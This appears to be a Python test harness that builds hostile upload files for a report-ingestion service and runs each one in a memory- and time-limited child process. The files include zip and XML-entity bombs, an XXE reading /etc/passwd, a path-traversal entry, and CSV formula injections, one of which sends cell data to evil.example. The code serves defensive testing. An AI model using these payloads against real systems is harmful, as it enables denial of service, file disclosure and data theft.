"""The hostile-file corpus, and a runner that ingests one file in a confined child process.

Every file is generated on demand (nothing big is committed): `build(case, directory)`
writes a case's bytes under a neutral name and returns the path. `run_isolated()` runs
the ingestion the Celery task runs (`check_upload` as on arrival, then
`propose_mapping` and every `normalise` chunk serialised for COPY) in a child process
under an address-space limit and a wall-time limit, and returns what the partner would
see plus the child's peak RSS, measured by the kernel even when the child dies.

Used by tests/reporting/test_hostile_uploads.py and bench/hostile.py;
`python -m tests.reporting.hostile PATH NAME MAX_BYTES` is the child.
"""

from __future__ import annotations

import io
import json
import os
import re
import resource
import signal
import subprocess
import sys
import threading
import time
import zipfile
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path

REPO = Path(__file__).resolve().parents[2]
LIMIT = 50 << 20  # the default tenant upload limit (Vendor.max_upload_mb = 50)

# Address-space limit of the child. Measured here: importing polars and python-calamine
# and parsing a small CSV already maps ~1.1 GB of *virtual* memory (allocator arenas and
# thread stacks reserved, not used; RSS is ~60 MB), so RLIMIT_AS must sit well above
# that. The most demanding file that must still import, a sheet just under the 25M-cell
# limit of extent.py (~0.86 GB resident), fails at 1.5 GiB and passes at 2 GiB; 2.5 GiB
# keeps a margin while staying far below the tens or hundreds of GB a decompression or
# sparse-sheet bomb asks for.
MEMORY_LIMIT = int(2.5 * (1 << 30))
TIME_LIMIT = 20.0  # seconds of wall time per file, unless the case says otherwise

HEADER = "Invoice No,Invoice Date,SKU,Qty,Unit Price,Currency"
SKU = "RP-SW"
GOOD_ROWS = "".join(
    f"A-{i},2026-09-{i % 28 + 1:02d},{SKU},{i % 5 + 1},10.00,EUR\n" for i in range(20)
)
GOOD = f"{HEADER}\n{GOOD_ROWS}"


# --- building blocks ---------------------------------------------------------------


def xlsx_bytes(rows: list[list] | None = None) -> bytes:
    """A small real workbook (xlsxwriter: shared strings, as Excel writes them), the base
    the malicious variants are made from."""
    import xlsxwriter

    buffer = io.BytesIO()
    workbook = xlsxwriter.Workbook(buffer, {"in_memory": True})
    sheet = workbook.add_worksheet("Sales")
    for index, row in enumerate(
        rows or [HEADER.split(","), ["A-1", "2026-09-01", SKU, 2, 10.0, "EUR"]]
    ):
        sheet.write_row(index, 0, row)
    workbook.close()
    return buffer.getvalue()


def rewrite_xlsx(path: Path, replace: dict[str, bytes], extra: dict[str, bytes] | None = None):
    """A copy of the base workbook with some parts replaced and others added."""
    source = zipfile.ZipFile(io.BytesIO(xlsx_bytes()))
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        for entry in source.infolist():
            archive.writestr(entry.filename, replace.get(entry.filename, source.read(entry)))
        for name, data in (extra or {}).items():
            archive.writestr(name, data)


SHEET_NS = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
HEAD_CELLS = "".join(
    f'<c r="{chr(65 + index)}1" t="inlineStr"><is><t>{name}</t></is></c>'
    for index, name in enumerate(HEADER.split(","))
)


def sheet_xml(body: str, prolog: str = "") -> bytes:
    return (
        f'<?xml version="1.0" encoding="UTF-8"?>{prolog}<worksheet {SHEET_NS}><sheetData>'
        f'<row r="1">{HEAD_CELLS}</row>{body}</sheetData></worksheet>'
    ).encode()


def data_row(number: int, invoice: str = "A-1") -> str:
    return (
        f'<row r="{number}"><c r="A{number}" t="inlineStr"><is><t>{invoice}</t></is></c>'
        f'<c r="B{number}" t="inlineStr"><is><t>2026-09-01</t></is></c>'
        f'<c r="C{number}" t="inlineStr"><is><t>{SKU}</t></is></c>'
        f'<c r="D{number}"><v>1</v></c><c r="E{number}"><v>10</v></c>'
        f'<c r="F{number}" t="inlineStr"><is><t>EUR</t></is></c></row>'
    )


SHORT_HEADER = "Invoice No,Invoice Date,SKU,Qty,Unit Price"  # currency: the partner's default
SHORT_ROW = f"1,2026-09-01,{SKU},1,1\n".encode()  # 23 bytes


def write_rows(path: Path, count: int, *, pad_to: int | None = None) -> None:
    """`count` rows of 23 bytes, then one padding row so the file is exactly `pad_to`."""
    with path.open("wb") as handle:
        handle.write(f"{SHORT_HEADER}\n".encode())
        block = SHORT_ROW * 100_000
        for _ in range(count // 100_000):
            handle.write(block)
        handle.write(SHORT_ROW * (count % 100_000))
        if pad_to is not None:
            missing = pad_to - handle.tell()
            assert missing >= 40, "pad_to leaves no room for the padding row"
            handle.write(f"P{'0' * (missing - 23)},2026-09-01,{SKU},1,1\n".encode())
            assert handle.tell() == pad_to


def sized(size: int) -> Callable[[Path], None]:
    """A valid report of exactly `size` bytes."""
    return lambda path: write_rows(path, (size - 100) // len(SHORT_ROW), pad_to=size)


# --- the files ---------------------------------------------------------------------


def zip_bomb(path: Path) -> None:
    """One sheet of 300 MB of identical rows that compresses ~1000:1."""
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        with archive.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as part:
            part.write(sheet_xml("")[:-25])
            block = ("<row><c><v>1</v></c></row>" * 40_000).encode()
            for _ in range((300 << 20) // len(block)):
                part.write(block)
            part.write(b"</sheetData></worksheet>")


def zip_bomb_lying(path: Path) -> None:
    """A sheet whose headers declare 2 KB but that inflates to 200 MB (sizes patched)."""
    base = zipfile.ZipFile(io.BytesIO(xlsx_bytes()))
    body = sheet_xml("<row r='2'><c r='A2'><v>1</v></c></row>" + " " * (200 << 20))
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        for entry in base.infolist():
            if entry.filename == "xl/worksheets/sheet1.xml":
                archive.writestr(entry.filename, body)
            else:
                archive.writestr(entry.filename, base.read(entry))
    _patch_declared_size(path, "xl/worksheets/sheet1.xml", 2048)


def _patch_declared_size(path: Path, name: str, size: int) -> None:
    """Overwrite an entry's uncompressed size in its local and central headers."""
    data = bytearray(path.read_bytes())
    encoded = name.encode()
    for signature, offset in ((b"PK\x03\x04", 22), (b"PK\x01\x02", 24)):
        start = 0
        while (at := data.find(signature, start)) >= 0:
            name_at = at + (30 if signature == b"PK\x03\x04" else 46)
            if data[name_at : name_at + len(encoded)] == encoded:
                data[at + offset : at + offset + 4] = size.to_bytes(4, "little")
            start = at + 4
    path.write_bytes(bytes(data))


def many_entries(path: Path) -> None:
    rewrite_xlsx(path, {}, {f"xl/media/image{index}.png": b"x" for index in range(5_000)})


def xxe(path: Path) -> None:
    prolog = '<!DOCTYPE worksheet [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
    body = data_row(2).replace("A-1", "&xxe;")
    rewrite_xlsx(path, {"xl/worksheets/sheet1.xml": sheet_xml(body, prolog)})


def billion_laughs(path: Path) -> None:
    entities = '<!ENTITY lol "lol">' + "".join(
        f'<!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">'
        for i in range(1, 10)
    )
    strings = (
        f'<?xml version="1.0"?><!DOCTYPE sst [{entities}]><sst {SHEET_NS} count="1" '
        'uniqueCount="1"><si><t>&lol9;</t></si></sst>'
    ).encode()
    body = data_row(2).replace('t="inlineStr"><is><t>A-1</t></is>', 't="s"><v>0</v>')
    rewrite_xlsx(
        path, {"xl/worksheets/sheet1.xml": sheet_xml(body), "xl/sharedStrings.xml": strings}
    )


def doctype_utf16(path: Path) -> None:
    """The DTD hidden in a UTF-16 encoded part (a byte search for ASCII misses it)."""
    text = sheet_xml(data_row(2), '<!DOCTYPE w [<!ENTITY e "x">]>').decode()
    text = text.replace('encoding="UTF-8"', 'encoding="UTF-16"')
    rewrite_xlsx(path, {"xl/worksheets/sheet1.xml": text.encode("utf-16")})


def path_traversal(path: Path) -> None:
    rewrite_xlsx(path, {}, {"../../../../tmp/evil.sh": b"#!/bin/sh\necho owned\n"})


def sparse_sheet(path: Path) -> None:
    """Two rows of data and one cell at XFD1048576: 5 KB that asks calamine for 512 GB."""
    body = data_row(2) + '<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>'
    rewrite_xlsx(path, {"xl/worksheets/sheet1.xml": sheet_xml(body)})


def sparse_under_the_limit(path: Path) -> None:
    """A cell at X1000000: 24 million cells, just under the limit, so calamine builds the
    grid (~770 MB): the figure the limit is chosen for. It imports its one data row."""
    body = data_row(2) + '<row r="1000000"><c r="X1000000"><v>1</v></c></row>'
    rewrite_xlsx(path, {"xl/worksheets/sheet1.xml": sheet_xml(body)})


def sparse_sheet_no_refs(path: Path) -> None:
    """The same without cell references: 16,384 positional cells in row 1,048,576."""
    body = data_row(2) + '<row r="1048576">' + "<c><v>1</v></c>" * 16_384 + "</row>"
    rewrite_xlsx(path, {"xl/worksheets/sheet1.xml": sheet_xml(body)})


def _far_cell(spelling: str) -> Callable[[Path], None]:
    """The sparse sheet with its far cell's reference written another valid way."""

    def build(path: Path) -> None:
        body = data_row(2) + f"<row r='1048576'>{spelling}</row>"
        rewrite_xlsx(path, {"xl/worksheets/sheet1.xml": sheet_xml(body)})

    return build


def sparse_sheet_renamed_part(path: Path) -> None:
    """The sparse sheet in a part whose name ends neither in .xml nor .rels: the
    relationships point the workbook at it, and calamine opens it all the same."""
    base = zipfile.ZipFile(io.BytesIO(xlsx_bytes()))
    body = data_row(2) + '<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>'
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        for entry in base.infolist():
            data = base.read(entry)
            if entry.filename == "xl/worksheets/sheet1.xml":
                archive.writestr("xl/worksheets/sheet1.dat", sheet_xml(body))
                continue
            if entry.filename == "xl/_rels/workbook.xml.rels":
                data = data.replace(b"worksheets/sheet1.xml", b"worksheets/sheet1.dat")
            if entry.filename == "[Content_Types].xml":
                data = data.replace(b"/xl/worksheets/sheet1.xml", b"/xl/worksheets/sheet1.dat")
            archive.writestr(entry.filename, data)


def ods_repeated(path: Path) -> None:
    """An OpenDocument sheet whose one row with one cell repeats 1M x 16K times."""
    content = (
        '<?xml version="1.0" encoding="UTF-8"?><office:document-content '
        'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
        'xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" '
        'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" office:version="1.2">'
        '<office:body><office:spreadsheet><table:table table:name="Sales">'
        + "<table:table-row>"
        + "".join(
            f'<table:table-cell office:value-type="string"><text:p>{name}</text:p>'
            "</table:table-cell>"
            for name in HEADER.split(",")
        )
        + "</table:table-row>"
        + '<table:table-row table:number-rows-repeated="1048000">'
        '<table:table-cell office:value-type="float" office:value="1" '
        'table:number-columns-repeated="16000"><text:p>1</text:p></table:table-cell>'
        "</table:table-row></table:table></office:spreadsheet></office:body>"
        "</office:document-content>"
    )
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(
            zipfile.ZipInfo("mimetype"), "application/vnd.oasis.opendocument.spreadsheet"
        )
        archive.writestr("content.xml", content)
        archive.writestr(
            "META-INF/manifest.xml",
            '<?xml version="1.0" encoding="UTF-8"?><manifest:manifest xmlns:manifest='
            '"urn:oasis:names:tc:opendocument:xmlns:manifest:1.0" manifest:version="1.2">'
            '<manifest:file-entry manifest:full-path="/" manifest:media-type='
            '"application/vnd.oasis.opendocument.spreadsheet"/><manifest:file-entry '
            'manifest:full-path="content.xml" manifest:media-type="text/xml"/>'
            "</manifest:manifest>",
        )


def xlsx_big_legit(path: Path, rows: int = 100_000) -> None:
    """100,000 rows shaped as Excel writes them (shared strings, references): must import.

    Written as XML directly: xlsxwriter takes ~30 s for this on a busy 2-core machine.
    """
    fixed = [*HEADER.split(","), "2026-09-01", SKU, "EUR"]
    strings = "".join(f"<si><t>{text}</t></si>" for text in fixed) + "".join(
        f"<si><t>B-{index}</t></si>" for index in range(rows)
    )
    total = len(fixed) + rows
    shared = f'<sst {SHEET_NS} count="{total}" uniqueCount="{total}">{strings}</sst>'
    header = "".join(f'<c r="{chr(65 + i)}1" t="s"><v>{i}</v></c>' for i in range(6))
    body = "".join(
        f'<row r="{n}"><c r="A{n}" t="s"><v>{n + 7}</v></c><c r="B{n}" t="s"><v>6</v></c>'
        f'<c r="C{n}" t="s"><v>7</v></c><c r="D{n}"><v>{n % 5 + 1}</v></c>'
        f'<c r="E{n}"><v>10.5</v></c><c r="F{n}" t="s"><v>8</v></c></row>'
        for n in range(2, rows + 2)
    )
    sheet = (
        f'<?xml version="1.0" encoding="UTF-8"?><worksheet {SHEET_NS}><dimension '
        f'ref="A1:F{rows + 1}"/><sheetData><row r="1">{header}</row>{body}</sheetData>'
        "</worksheet>"
    )
    rewrite_xlsx(
        path,
        {"xl/worksheets/sheet1.xml": sheet.encode(), "xl/sharedStrings.xml": shared.encode()},
    )


def truncated_zip(path: Path) -> None:
    data = xlsx_bytes()
    path.write_bytes(data[: len(data) // 2])


def damaged_sheet(path: Path) -> None:
    """A zip whose directory is intact but whose sheet data is garbage."""
    rewrite_xlsx(path, {})
    data = bytearray(path.read_bytes())
    at = data.find(b"xl/worksheets/sheet1.xml") + len("xl/worksheets/sheet1.xml")
    data[at : at + 200] = bytes((byte * 7 + 3) % 256 for byte in range(200))
    path.write_bytes(bytes(data))


def encrypted_ole(path: Path) -> None:
    """What Excel writes for a password-protected .xlsx: an OLE2 compound document."""
    path.write_bytes(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 4088)


def zip_encrypted_entry(path: Path) -> None:
    """A zip whose sheet entry is flagged as encrypted (ZipCrypto)."""
    rewrite_xlsx(path, {})
    data = bytearray(path.read_bytes())
    encoded = b"xl/worksheets/sheet1.xml"
    for signature, flag_at, name_at in ((b"PK\x03\x04", 6, 30), (b"PK\x01\x02", 8, 46)):
        start = 0
        while (at := data.find(signature, start)) >= 0:
            if data[at + name_at : at + name_at + len(encoded)] == encoded:
                data[at + flag_at] |= 0x01
            start = at + 4
    path.write_bytes(bytes(data))


def one_long_line(path: Path) -> None:
    with path.open("wb") as handle:
        block = b"x" * (1 << 20)
        for _ in range(40):
            handle.write(block)


def million_columns(path: Path) -> None:
    header = ",".join(f"c{index}" for index in range(1_000_000))
    path.write_text(f"{header}\n{','.join('1' * 1_000_000)}\n")


def late_unterminated_quote(path: Path) -> None:
    """200,000 good rows, then a quote that never closes, then 5 MB more."""
    write_rows(path, 200_000)
    with path.open("ab") as handle:
        handle.write(f'B-1,"2026-09-01,{SKU},1,1\n'.encode())
        handle.write(SHORT_ROW * 200_000)


def formula_injection(path: Path) -> None:
    rows = [
        "=cmd|' /C calc'!A0",
        "+SUM(1+1)*cmd|' /C calc'!A0",
        '@HYPERLINK("http://evil.example","x")',
        "-2+3+cmd|' /C calc'!A0",
        '=IMPORTXML(CONCAT("http://evil.example/?",A1),"//a")',
    ]
    body = "".join(
        f'F-{index},2026-09-01,{SKU},1,10.00,EUR,"{value.replace(chr(34), chr(34) * 2)}"\n'
        for index, value in enumerate(rows)
    )
    body += f'"=HYPERLINK(""http://evil.example"")",2026-09-02,{SKU},1,10.00,EUR,ok\n'
    path.write_text(f"{HEADER},End Customer\n{body}")


def mixed_encodings(path: Path) -> None:
    """UTF-8 rows, then a cp1252 row deep in the file (two exports pasted together)."""
    utf8 = "".join(
        f"M-{i},2026-09-01,{SKU},1,10.00,EUR,Müller GmbH\n" for i in range(5_000)
    ).encode()
    latin = f"M-X,2026-09-01,{SKU},1,10.00,EUR,Peña Señor\n".encode("cp1252")
    path.write_bytes(f"{HEADER},End Customer\n".encode() + utf8 + latin)


def cp1252_spanish(path: Path) -> None:
    rows = "".join(
        f"S-{i},01/09/2026,{SKU},1,10.00,EUR,Compañía Española Ñandú S.A.\n" for i in range(50)
    )
    path.write_bytes(f"{HEADER},End Customer\n{rows}".replace("01/09", "13/09").encode("cp1252"))


def quotes_deep(path: Path) -> None:
    """A 2 MB value made only of quote characters on the first data row."""
    quotes = '"' * (2 << 20)
    path.write_text(f'{HEADER}\nA-1,"{quotes},{SKU},1,1,EUR\n{GOOD_ROWS}')


@dataclass(frozen=True)
class Case:
    """One hostile file: how to make it, the name it is uploaded under, what must happen.

    `outcome`: "refused" (on arrival, nothing stored), "imported" or "needs_mapping".
    `says`: words the partner's message must contain; `code`: the refusal code.
    `web`: cheap enough to also go through the real upload view and service on acme.
    `seconds`: the wall-time limit; the 50 MB files get more, as other jobs share the
    two cores (unloaded, the slowest file takes ~9 s).
    """

    id: str
    filename: str
    build: Callable[[Path], None]
    outcome: str
    code: str | None = None
    says: tuple[str, ...] = ()
    max_bytes: int = LIMIT
    web: bool = True
    lines: int | None = None
    extra: dict = field(default_factory=dict)
    seconds: float = 20.0


def _text(content: str | bytes, encoding: str = "utf-8") -> Callable[[Path], None]:
    data = content if isinstance(content, bytes) else content.encode(encoding)
    return lambda path: path.write_bytes(data)


CASES: tuple[Case, ...] = (
    # --- zip containers --------------------------------------------------------------
    Case("zip-bomb-ratio", "bomb.xlsx", zip_bomb, "refused", "zip_ratio",
         ("compressed", "was not opened")),
    Case("zip-bomb-lying-sizes", "lying.xlsx", zip_bomb_lying, "refused", "zip_corrupt",
         ("damaged",)),
    Case("zip-5000-entries", "entries.xlsx", many_entries, "refused", "zip_too_many_entries",
         ("5010 internal parts",)),
    Case("xlsx-xxe-sheet", "xxe.xlsx", xxe, "refused", "xml_entities", ("DOCTYPE/ENTITY",)),
    Case("xlsx-billion-laughs-sharedstrings", "laughs.xlsx", billion_laughs, "refused",
         "xml_entities", ("DOCTYPE/ENTITY",)),
    Case("xlsx-doctype-utf16-part", "utf16part.xlsx", doctype_utf16, "refused", "xml_entities",
         ("DOCTYPE/ENTITY",)),
    Case("xlsx-path-traversal-entry", "traversal.xlsx", path_traversal, "refused",
         "zip_unsafe_names", ("../../../../tmp/evil.sh",)),
    Case("xlsx-sparse-cell-xfd1048576", "sparse.xlsx", sparse_sheet, "refused",
         "sheet_too_large", ("1048576 rows", "16384 columns")),
    Case("xlsx-sparse-positional-cells", "positional.xlsx", sparse_sheet_no_refs, "refused",
         "sheet_too_large", ("1048576 rows",)),
    Case("xlsx-sparse-single-quotes", "quotes.xlsx", _far_cell("<c r='XFD1048576'><v>1</v></c>"),
         "refused", "sheet_too_large", ("1048576 rows",)),
    Case("xlsx-sparse-spaces-around-equals", "spaces.xlsx",
         _far_cell('<c r = "XFD1048576" ><v>1</v></c>'), "refused", "sheet_too_large",
         ("1048576 rows",)),
    Case("xlsx-sparse-lower-case-reference", "lower.xlsx",
         _far_cell('<c r="xfd1048576"><v>1</v></c>'), "refused", "sheet_too_large",
         ("1048576 rows",)),
    Case("xlsx-sparse-gt-inside-attribute", "gt.xlsx",
         _far_cell('<c s="0" xml:lang="a>b" r="XFD1048576"><v>1</v></c>'), "refused",
         "sheet_too_large", ("1048576 rows",)),
    Case("xlsx-sparse-prefixed-tags", "prefixed.xlsx",
         _far_cell('<x:c xmlns:x="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
                   "r='XFD1048576'><x:v>1</x:v></x:c>"), "refused", "sheet_too_large",
         ("1048576 rows",)),
    Case("xlsx-sparse-sheet-part-named-dat", "renamed.xlsx", sparse_sheet_renamed_part,
         "refused", "sheet_too_large", ("1048576 rows",)),
    Case("xlsm-sparse-single-quotes", "macro.xlsm",
         _far_cell("<c r='XFD1048576'><v>1</v></c>"), "refused", "sheet_too_large",
         ("1048576 rows",)),
    Case("xlsx-sparse-just-under-cell-limit", "under.xlsx", sparse_under_the_limit,
         "imported", lines=1, web=False, seconds=40),
    Case("ods-repeated-cells", "repeat.ods", ods_repeated, "refused", "sheet_too_large",
         ("rows",)),
    Case("xlsx-truncated", "truncated.xlsx", truncated_zip, "refused", "zip_corrupt",
         ("damaged",)),
    Case("xlsx-damaged-sheet-data", "damaged.xlsx", damaged_sheet, "refused", "zip_corrupt",
         ("damaged",)),
    Case("xlsx-password-ole2", "locked.xlsx", encrypted_ole, "refused", "encrypted_workbook",
         ("password",)),
    Case("xlsx-encrypted-zip-entry", "zipcrypto.xlsx", zip_encrypted_entry, "refused",
         "encrypted_workbook", ("password",)),
    Case("xls-fake-ole2", "old.xls", encrypted_ole, "refused", "zip_corrupt", ("damaged",)),
    Case("xlsx-100k-rows-legit", "big.xlsx", xlsx_big_legit, "imported", lines=100_000,
         web=False, seconds=30),
    # --- disguised files -------------------------------------------------------------
    Case("xlsx-really-csv", "report.xlsx", _text(GOOD), "refused", "not_a_workbook",
         ("named .xlsx", "a text file")),
    Case("xlsx-really-exe", "report.xlsx",
         _text(b"MZ\x90\x00\x03" + b"\x00" * 60 + b"This program cannot be run in DOS mode"),
         "refused", "not_a_workbook", ("a Windows program",)),
    Case("xlsx-really-pdf", "report.xlsx", _text(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n"),
         "refused", "not_a_workbook", ("a PDF document",)),
    Case("xlsx-really-png", "report.xlsx", _text(b"\x89PNG\r\n\x1a\n" + b"\x00" * 64),
         "refused", "not_a_workbook", ("a PNG image",)),
    Case("csv-really-xlsx", "report.csv", lambda path: path.write_bytes(xlsx_bytes()),
         "refused", "binary_as_text", ("not a text file", "Excel workbook")),
    # --- text files ------------------------------------------------------------------
    Case("csv-40mb-one-line", "line.csv", one_long_line, "refused", "field_too_long",
         ("line 1", "unclosed quote"), web=False),
    Case("csv-1m-column-header", "wide.csv", million_columns, "refused", "too_many_columns",
         ("at most 500",), web=False),
    Case("csv-nul-bytes", "nul.csv", _text(b"\x00" * 100_000), "refused", "binary_as_text",
         ("not a text file",)),
    Case("csv-binary-garbage", "garbage.csv",
         _text(bytes((index * 7919 + 13) % 256 for index in range(200_000))), "refused",
         "binary_as_text", ("not a text file",)),
    Case("csv-utf16-no-bom", "unicode.txt", _text(GOOD.replace(",", "\t"), "utf-16-le"),
         "imported", lines=20),
    Case("csv-mixed-utf8-cp1252", "mixed.csv", mixed_encodings, "imported", lines=5_001,
         extra={"warning": "encoding was guessed"}),
    Case("csv-cp1252-spanish", "espana.csv", cp1252_spanish, "imported", lines=50,
         extra={"customer": "Compañía Española Ñandú S.A."}),
    Case("csv-formula-injection", "formula.csv", formula_injection, "imported", lines=6),
    Case("csv-unterminated-quote-late", "quote.csv", late_unterminated_quote, "failed",
         "field_too_long", ("line 200002", "unclosed quote"), seconds=30),
    Case("csv-2mb-of-quotes", "quotes.csv", quotes_deep, "refused", "field_too_long",
         ("unclosed quote",)),
    # 2,279,509 rows of 23 bytes: the "millions of tiny rows" file is also the one at the limit
    Case("csv-2.3m-rows-exactly-at-limit", "at-limit.csv", sized(LIMIT), "imported",
         lines=2_279_509, web=False, seconds=40),
    Case("csv-one-byte-over-limit", "over.csv", sized(LIMIT + 1), "refused", "too_large",
         ("the limit is 50 MB",), web=False),
    Case("csv-over-a-1mb-tenant-limit", "over-1mb.csv", sized((1 << 20) + 1), "refused",
         "too_large", ("the limit is 1 MB",), max_bytes=1 << 20),
    Case("csv-empty", "empty.csv", _text(b""), "refused", "empty", ("The file is empty",)),
    Case("csv-header-only", "header.csv", _text(HEADER + "\r\n"), "refused", "header_only",
         ("no sales rows", "Invoice No")),
    # --- file names (the content is fine; the name must never become a path) ------------
    Case("name-dot-dot-slash", "../../../etc/cron.d/report.csv", _text(GOOD), "imported",
         lines=20),
    Case("name-backslashes", "..\\..\\Windows\\report.csv", _text(GOOD), "imported", lines=20),
    Case("name-unicode-control", "Tổng hợp\u202egnp.\x07\r\n\t.csv", _text(GOOD), "imported",
         lines=20),
    Case("name-rtl-override-exe", "report\u202evsc.exe", _text(GOOD), "refused", "extension",
         ("are not accepted",)),
)  # fmt: skip

BY_ID = {case.id: case for case in CASES}


def build(case: Case, directory: Path) -> Path:
    """Write the case's file under a neutral name (never the upload name) and return it."""
    suffix = Path(case.filename.replace("\\", "/")).suffix.lower() or ".bin"
    path = directory / f"{case.id}{suffix}"
    if not path.exists():
        partial = path.with_suffix(".partial")
        case.build(partial)
        partial.rename(path)
    return path


# --- the confined child -------------------------------------------------------------


@dataclass
class Result:
    """What happened to one file: the outcome the partner sees, and what it cost."""

    outcome: str  # refused, failed, needs_mapping, imported; crashed or timeout otherwise
    code: str | None = None
    message: str = ""
    lines: int = 0
    error_rows: int = 0
    warnings: list[str] = field(default_factory=list)
    sample: dict = field(default_factory=dict)
    peak_mb: float = 0.0
    seconds: float = 0.0
    exit: str = ""
    stderr: str = ""

    def to_dict(self) -> dict:
        return {name: getattr(self, name) for name in self.__dataclass_fields__}


def ingest_in_this_process(path: Path, filename: str, max_bytes: int) -> dict:
    """The worker's parsing path on one file (no database): what the partner would see."""
    from reporting.ingest import UploadRefused, check_upload, normalise, propose_mapping

    try:
        check = check_upload(path, filename, max_bytes)
    except UploadRefused as error:
        return {"outcome": "refused", "code": error.code, "message": str(error)}
    info = check.info
    proposal = propose_mapping(info, known_vendor_skus={SKU})
    result = {"warnings": info.warnings, "lines": 0, "error_rows": 0}
    if not proposal.certain:
        return result | {"outcome": "needs_mapping", "message": "\n".join(proposal.reasons)}
    try:
        for chunk in normalise(
            path, info, proposal, partner_slug="hostile", default_currency="EUR",
            vendor_skus={SKU}, date_order=info.date_order if info.date_order != "ambiguous"
            else "dmy",
        ):  # fmt: skip
            chunk.copy_csv()  # what the task hands to COPY
            if not result["lines"] and chunk.lines.height:
                first = chunk.lines.row(0, named=True)
                result["sample"] = {
                    key: str(first[key]) for key in ("invoice_number", "end_customer")
                }
            result["lines"] += chunk.lines.height
            result["error_rows"] += chunk.error_rows
    except UploadRefused as error:
        # The task stores nothing and shows this message (upload status "failed").
        return result | {"outcome": "failed", "code": error.code, "message": str(error)}
    return result | {"outcome": "imported"}


def run_isolated(
    path: Path,
    filename: str,
    max_bytes: int = LIMIT,
    *,
    memory_limit: int = MEMORY_LIMIT,
    time_limit: float = TIME_LIMIT,
) -> Result:
    """Ingest one file in a child process under RLIMIT_AS and a wall-time limit.

    The peak RSS is the child's VmHWM, sampled while it runs and read by the child at its
    end, so there is a figure even when the child was killed or aborted (an allocation
    failure in Rust code aborts the process with SIGABRT).
    """
    started = time.monotonic()
    process = subprocess.Popen(
        [sys.executable, "-m", "tests.reporting.hostile", str(path), filename, str(max_bytes),
         str(memory_limit)],
        cwd=path.parent,  # anything written relative to the name would land here
        env={**os.environ, "PYTHONPATH": str(REPO), "POLARS_MAX_THREADS": "2"},
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
    )  # fmt: skip
    timed_out = threading.Event()

    def kill() -> None:
        timed_out.set()
        process.kill()

    timer = threading.Timer(time_limit, kill)
    timer.start()
    # Read the pipes in threads (a full pipe would block the child), reap with wait4.
    output: dict[str, bytes] = {}
    readers = [
        threading.Thread(target=lambda n=n, s=s: output.__setitem__(n, s.read()))
        for n, s in (("out", process.stdout), ("err", process.stderr))
    ]
    for reader in readers:
        reader.start()
    # ru_maxrss of wait4() would be useless here: Linux carries the parent's high-water
    # mark into the child at fork/exec, so the child's own VmHWM is sampled instead (it
    # only grows; an allocation refused by RLIMIT_AS never became resident anyway).
    peak_kb = 0
    while True:
        pid, status, _ = os.wait4(process.pid, os.WNOHANG)
        if pid:
            break
        peak_kb = max(peak_kb, _high_water_kb(process.pid))
        time.sleep(0.01)
    process.returncode = os.waitstatus_to_exitcode(status)
    timer.cancel()
    for reader in readers:
        reader.join()
    seconds = round(time.monotonic() - started, 2)
    peak_mb = round(peak_kb / 1024, 1)
    stderr = output.get("err", b"").decode(errors="replace")[-2000:]
    if timed_out.is_set():
        return Result("timeout", peak_mb=peak_mb, seconds=seconds, stderr=stderr)
    if process.returncode != 0:
        code = process.returncode
        exit = signal.Signals(-code).name if code < 0 else f"exit {code}"
        return Result("crashed", peak_mb=peak_mb, seconds=seconds, exit=exit, stderr=stderr)
    report = json.loads(output["out"].decode().strip().splitlines()[-1])
    peak_mb = round(max(peak_kb, report.pop("peak_kb", 0)) / 1024, 1)
    return Result(**report, peak_mb=peak_mb, seconds=seconds, exit="ok", stderr=stderr)


def _high_water_kb(pid: int) -> int:
    """VmHWM (peak resident set) of the running child, in KiB; 0 once it is gone.

    Until the child has exec'd it still shares or copies the parent's memory (and
    high-water mark): only a process already running this module counts.
    """
    try:
        with open(f"/proc/{pid}/cmdline", "rb") as command:
            if b"tests.reporting.hostile\x00" not in command.read():
                return 0
        with open(f"/proc/{pid}/status", encoding="ascii") as status:
            for line in status:
                if line.startswith("VmHWM:"):
                    return int(line.split()[1])
    except (OSError, ValueError):
        pass
    return 0


def _child(argv: list[str]) -> None:
    path, filename, max_bytes, memory_limit = argv
    # Before anything is imported: the limit covers polars' and calamine's allocations.
    resource.setrlimit(resource.RLIMIT_AS, (int(memory_limit), int(memory_limit)))
    try:
        report = ingest_in_this_process(Path(path), filename, int(max_bytes))
    except MemoryError:
        report = {"outcome": "crashed", "message": "MemoryError"}
    report["peak_kb"] = _high_water_kb(os.getpid())
    print(json.dumps(report))


def _name_is_safe(name: str) -> bool:  # used by the tests: what a stored path may look like
    return (
        re.fullmatch(r"reports/\d+/[0-9a-f]{32}\.(csv|tsv|txt|xlsx|xlsm|xlsb|xls|ods)", name)
        is not None
    )


if __name__ == "__main__":
    _child(sys.argv[1:])
